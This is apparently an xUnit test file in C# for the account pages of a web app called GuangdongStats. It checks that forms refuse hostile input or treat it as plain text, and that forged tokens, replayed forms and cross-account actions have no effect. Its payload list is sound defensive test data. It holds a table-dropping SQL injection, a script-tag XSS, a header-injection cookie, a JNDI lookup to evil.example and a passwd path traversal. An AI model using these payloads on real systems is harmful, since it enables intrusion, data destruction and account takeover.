using System.Net;
using GuangdongStats.Core.Accounts;
using GuangdongStats.Data;
using GuangdongStats.Data.Accounts;
using GuangdongStats.Web.Tests.Support;
using GuangdongStats.Web.Ui;
using Microsoft.AspNetCore.Identity;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Xunit;

namespace GuangdongStats.Web.Tests.Features.Accounts;

/// <summary>What somebody may send in place of what a form of the account pages asks for.</summary>
public sealed class HostileFormTests(ReadingSite site)
{
    private const string Next = "a ferry on the Pearl River", Sql = "'; DROP TABLE \"AspNetUsers\"; --", Html = "\"><script>alert(1)</script>";

    private static readonly byte[] Passkey = [1, 2, 3, 4, 5, 6, 7, 8];

    private static readonly string[] Hostile =
    [
        new('x', 100_000), "bell\u0007 and \u001b[31m", "zero\u200bwidth and \u202eturned", Sql, Html, "line\r\nSet-Cookie: taken=over", "{0} {99} %s %n", "${jndi:ldap://evil.example/}", "../../../etc/passwd",
        "=1+1", "", "   ",
    ];

    /// <summary>Every form that somebody who is signed in can send, and each of its fields.</summary>
    public static TheoryData<string, string, string> SignedInFields { get; } = new()
    {
        { "/account/password", "password", "Present" },
        { "/account/password", "password", "NewPassword" },
        { "/account/password", "password", "Repeated" },
        { "/account/password", "password", "UserName" },
        { "/account/authenticator", "confirm", "Code" },
        { "/account/passkeys", "add", "NewName" },
        { "/account/passkeys", "add", "Credential" },
        { "/account/passkeys", "rename", "Name" },
        { "/account/passkeys", "rename", "Id" },
        { "/account/passkeys", "remove", "Id" },
        { "/account/sessions", "end", "Id" },
    };

    [Theory]
    [MemberData(nameof(SignedInFields))]
    public async Task What_is_sent_by_somebody_signed_in_is_refused_or_taken_as_text(string address, string form, string field)
    {
        var person = await site.SignedIn(Duty.Clerk);
        var before = await Equip(person);
        var sent = await Fields(person, address, form);
        foreach (var value in Hostile)
        {
            using var answer = await person.Post(address, sent, (field, value));
            await Check(answer, $"{field} = {Start(value)}");
        }

        // Nothing of the account is gone, and the person can still work.
        Assert.Equal(HttpStatusCode.OK, (await person.Get("/work")).StatusCode);
        Assert.Equal(before, await Credentials(person.UserName));
    }

    [Theory]
    [InlineData("sign-in", "UserName")]
    [InlineData("sign-in", "Password")]
    [InlineData("passkey", "Credential")]
    public async Task What_is_sent_to_the_sign_in_signs_nobody_in(string form, string field)
    {
        var name = People.NewName();
        await site.AddPerson(name, [Duty.Administrator]);
        foreach (var value in Hostile)
        {
            var visitor = new Visitor(site);
            using var answer = await visitor.Send("/account/sign-in", form, ("UserName", name), ("Password", "wrong"), (field, value));
            await Check(answer, Start(value));
            Assert.Equal(HttpStatusCode.Redirect, (await visitor.Get("/work")).StatusCode);
        }
    }

    [Theory]
    [InlineData("/account/second-factor", "second-factor")]
    [InlineData("/account/recovery-code", "recovery-code")]
    public async Task What_is_sent_in_place_of_a_code_signs_nobody_in(string address, string form)
    {
        foreach (var value in Hostile)
        {
            var name = People.NewName();
            var id = await site.AddPerson(name, [], row => row.TwoFactorEnabled = true);
            await using (var db = await Open())
            {
                db.UserTokens.Add(new() { UserId = id, LoginProvider = "[AspNetUserStore]", Name = "AuthenticatorKey", Value = "JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP" });
                await db.SaveChangesAsync(Cancellation);
            }

            var visitor = new Visitor(site, name);
            Assert.Equal("/account/second-factor", Visitor.Goal(await visitor.SignIn()));
            using var answer = await visitor.Send(address, form, ("Code", value));
            await Check(answer, Start(value));
            Assert.Equal(HttpStatusCode.Redirect, (await visitor.Get("/work")).StatusCode);
        }
    }

    [Fact]
    public async Task What_is_sent_to_the_first_set_up_makes_no_account()
    {
        await using var fresh = new ReadingSite();
        await fresh.InitializeAsync();
        var link = AccountUrls.Setup((await fresh.Services.GetRequiredService<FirstAccount>().Invite(Cancellation))!);
        (string, string)[] good = [("UserName", "zhou"), ("DisplayName", "周敏"), ("Email", "zhou@example.cn"), ("NewPassword", Next), ("Repeated", Next)];
        foreach (var field in new[] { "UserName", "Email", "NewPassword", "Repeated" })
        {
            // Blanks are no address; an address is not asked for.
            foreach (var value in Hostile.Where(value => field != "Email" || value.Trim().Length > 0))
            {
                using var answer = await new Visitor(fresh).Send(link, "setup", [.. good, (field, value)]);
                Assert.Equal((field, Start(value), HttpStatusCode.OK), (field, Start(value), answer.StatusCode));
                await Check(answer, $"{field} = {Start(value)}");
                Assert.NotEqual("", await Visitor.Said(answer));
            }
        }

        // A name is any text that can be read; it is shown as that text.
        foreach (var value in Hostile.Except([Sql, Html, "{0} {99} %s %n", "${jndi:ldap://evil.example/}", "../../../etc/passwd", "=1+1"]))
        {
            Assert.NotEqual("", await Visitor.Said(await new Visitor(fresh).Send(link, "setup", [.. good, ("DisplayName", value)])));
        }

        var administrator = new Visitor(fresh, "zhou");
        Assert.Equal("/account/sign-in?ended=new", Visitor.Goal(await administrator.Send(link, "setup", [.. good, ("DisplayName", Html)])));
        await administrator.SignIn(Next);
        var page = await administrator.Get("/account");
        Assert.Contains(Html, Words.Of((await Visitor.Parse(page)).QuerySelector("main")), StringComparison.Ordinal);
        await Check(page, "a name of markup");
    }

    [Theory]
    [InlineData("/account/sign-in", "sign-in")]
    [InlineData("/account/sign-in", "passkey")]
    [InlineData("/account/password", "password")]
    [InlineData("/account/authenticator", "begin")]
    [InlineData("/account/passkeys", "add")]
    [InlineData("/account/passkeys", "rename")]
    [InlineData("/account/passkeys", "remove")]
    [InlineData("/account/sessions", "end")]
    [InlineData("/account/sessions", "end-others")]
    [InlineData("/account/sign-out", "sign-out")]
    public async Task A_form_without_its_token_or_with_that_of_somebody_else_does_nothing(string address, string form)
    {
        var person = await site.SignedIn(Duty.Clerk);
        var before = await Equip(person, withAuthenticator: form != "begin");
        var visitor = address == "/account/sign-in" ? new Visitor(site, person.UserName) : person;
        var other = await site.SignedIn(Duty.Clerk);
        await Equip(other, withAuthenticator: form != "begin");
        var sent = await Fields(visitor, address, form);
        var theirs = (await Fields(other, "/account/sign-out", "sign-out"))["__RequestVerificationToken"];
        foreach (var token in new[] { "forged", "", theirs })
        {
            using var answer = await visitor.Post(address, sent, ("__RequestVerificationToken", token), ("UserName", person.UserName), ("Password", People.Password), ("Present", People.Password), ("NewPassword", Next), ("Repeated", Next));
            Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
        }

        Assert.Equal(before, await Credentials(person.UserName));
        Assert.Equal(HttpStatusCode.OK, (await person.Get("/work")).StatusCode);
    }

    [Fact]
    public async Task A_form_that_no_page_has_does_nothing()
    {
        var person = await site.SignedIn(Duty.Clerk);
        await Equip(person);
        foreach (var handler in Hostile)
        {
            using var answer = await person.Post("/account/sessions", await person.Form("/account/sessions", "end-others"), ("_handler", handler));
            Assert.Equal((Start(handler), HttpStatusCode.BadRequest), (Start(handler), answer.StatusCode));
        }

        Assert.Equal(2, (await person.Page("/account/sessions")).QuerySelectorAll(".rows > li").Length);
    }

    [Fact]
    public async Task A_form_that_the_program_fails_over_gets_a_page_that_says_so()
    {
        await using var broken = new ReadingSite();
        await broken.InitializeAsync();
        var name = People.NewName();
        await broken.AddPerson(name, []);
        var visitor = new Visitor(broken, name);
        var form = await visitor.Form("/account/sign-in", "sign-in");
        await using (var db = await broken.Services.GetRequiredService<IDbContextFactory<StatsDb>>().CreateDbContextAsync(Cancellation))
        {
            await db.Database.ExecuteSqlRawAsync("ALTER TABLE \"Sessions\" RENAME TO \"Gone\"", Cancellation);
        }

        using var answer = await visitor.Post("/account/sign-in", form, ("UserName", name), ("Password", People.Password));
        Assert.True((int)answer.StatusCode is 500 or 503, answer.StatusCode.ToString());
        Assert.NotEmpty((await Visitor.Parse(answer)).QuerySelectorAll("main h1"));
    }

    [Fact]
    public async Task A_form_that_is_sent_again_does_not_do_it_again()
    {
        var person = await site.SignedIn(Duty.Clerk);
        var password = await person.Form("/account/password", "password");
        (string, string)[] change = [("Present", People.Password), ("NewPassword", Next), ("Repeated", Next)];
        Assert.Equal("/account?done=password", Visitor.Goal(await person.Post("/account/password", password, change)));
        Assert.StartsWith("当前密码不正确", await Visitor.Said(await person.Post("/account/password", password, change)), StringComparison.Ordinal);

        var signOut = await person.Form("/account/sign-out", "sign-out");
        Assert.Equal("/account/sign-in?ended=signed-out", Visitor.Goal(await person.Post("/account/sign-out", signOut)));
        foreach (var (address, form) in new[] { ("/account/sign-out", signOut), ("/account/password", password) })
        {
            using var answer = await person.Post(address, form, change);
            Assert.NotEqual(HttpStatusCode.OK, answer.StatusCode);
        }

        Assert.Equal("/work", Visitor.Goal(await new Visitor(site, person.UserName).SignIn(Next)));
    }

    [Fact]
    public async Task Nobody_ends_renames_or_removes_what_is_anothers()
    {
        var (person, victim) = (await site.SignedIn(Duty.Clerk), await site.SignedIn(Duty.Clerk));
        await Equip(person);
        var before = await Equip(victim, [9, 9, 9, 9]);
        await using var db = await Open();
        var session = await db.Sessions.Where(row => row.EndedAt == null && db.Users.Any(owner => owner.Id == row.AccountId && owner.UserName == victim.UserName)).Select(row => row.Id).FirstAsync(Cancellation);
        await person.Post("/account/sessions", await Fields(person, "/account/sessions", "end"), ("Id", session));
        foreach (var form in new[] { "rename", "remove" })
        {
            var answer = await person.Post("/account/passkeys", await Fields(person, "/account/passkeys", form), ("Id", "CQkJCQ"), ("Name", "taken"));
            Assert.NotEqual("", await Visitor.Said(answer));
        }

        Assert.Equal(HttpStatusCode.OK, (await victim.Get("/work")).StatusCode);
        Assert.Equal(before, await Credentials(victim.UserName));
    }

    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    /// <summary>Gives the person a second session, a passkey, and an authenticator that is begun, so that every form is there.</summary>
    private async Task<string> Equip(Visitor person, byte[]? passkey = null, bool withAuthenticator = true)
    {
        await new Visitor(site, person.UserName).SignIn();
        if (withAuthenticator)
        {
            await person.Send("/account/authenticator", "begin");
        }

        await using var db = await Open();
        var id = await db.Users.Where(row => row.UserName == person.UserName).Select(row => row.Id).SingleAsync(Cancellation);
        db.UserPasskeys.Add(new IdentityUserPasskey<string>
        {
            UserId = id,
            CredentialId = passkey ?? [.. Passkey, .. Guid.NewGuid().ToByteArray()],
            Data = new() { Name = "desk", CreatedAt = site.Clock.Now, PublicKey = [1], AttestationObject = [1], ClientDataJson = [1], Transports = [] },
        });
        await db.SaveChangesAsync(Cancellation);
        return await Credentials(person.UserName);
    }

    private static async Task<IReadOnlyDictionary<string, string>> Fields(Visitor person, string address, string form)
    {
        var page = await person.Page(address);
        var name = page.QuerySelectorAll("input[name=_handler]").Select(input => input.GetAttribute("value")!)
            .First(handler => handler == form || (form is "rename" or "remove" or "end" && handler.StartsWith(form + "-", StringComparison.Ordinal) && handler != "end-others"));
        return await person.Form(address, name);
    }

    /// <summary>Whatever is to be the same afterwards: password, second step, and how many passkeys there are.</summary>
    private async Task<string> Credentials(string userName)
    {
        await using var db = await Open();
        var account = await db.Users.AsNoTracking().SingleAsync(row => row.UserName == userName, Cancellation);
        return $"{account.PasswordHash} {account.TwoFactorEnabled} {account.DisplayName} {await db.UserPasskeys.CountAsync(row => row.UserId == account.Id, Cancellation)}";
    }

    /// <summary>No failure of the program, nothing run, nothing set, and not more than a page.</summary>
    private static async Task Check(HttpResponseMessage answer, string what)
    {
        Assert.True((int)answer.StatusCode is 200 or 302 or 400, $"{what}: {answer.StatusCode}");
        Assert.False(answer.Headers.TryGetValues("Set-Cookie", out var cookies) && cookies.Any(cookie => cookie.StartsWith("taken", StringComparison.Ordinal)), what);
        var page = await Visitor.Parse(answer);
        Assert.True(page.QuerySelectorAll("script").All(script => !script.TextContent.Contains("alert", StringComparison.Ordinal)), what);
        Assert.True(page.DocumentElement.OuterHtml.Length < 50_000, $"{what} comes back");
    }

    private static string Start(string value) => value.Length > 20 ? value[..20] : value;

    private Task<StatsDb> Open() => site.Services.GetRequiredService<IDbContextFactory<StatsDb>>().CreateDbContextAsync(Cancellation);
}
